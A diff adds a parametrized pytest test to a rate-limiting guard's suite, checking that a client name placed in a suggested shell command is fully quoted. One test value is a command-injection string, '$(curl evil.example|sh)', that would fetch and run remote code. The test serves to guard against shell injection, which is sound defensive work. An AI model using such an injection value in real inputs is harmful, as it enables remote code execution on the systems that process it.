@@ -305,6 +305,22 @@ def test_recovery_is_judged_by_the_requests_of_those_who_were_denied() -> None:
     assert "The guard denied guesses until" in lead and "(alice from 192.0.2.7)" in lead and "40" not in lead
 
 
+@pytest.mark.parametrize(
+    ("client_id", "argument"),
+    [
+        ("app", "app"),
+        (ANYONE, "'*'"),
+        ("$(curl evil.example|sh)", "'$(curl evil.example|sh)'"),
+        ("long-" * 20, "long-" * 20),
+    ],
+    ids=["plain", "anyone", "a command", "long"],
+)
+def test_command_that_lists_guesses_has_the_whole_name_quoted_for_a_shell(client_id: str, argument: str) -> None:
+    """Anybody can have guesses denied under a name of their own."""
+    guesses = storm([minute(0, denied=9, grant="guard:client_secret")], client_id=client_id)
+    assert f" denials {argument} --where guard lists them." in judge(guesses).action
+
+
 def test_denials_under_a_limit_that_was_raised_and_lowered_again_begin_with_the_second_change() -> None:
     """The first change has ended the former ones; a single change, or denials that go on, are one storm."""
     start_s = int(NOW_S) // 60 * 60
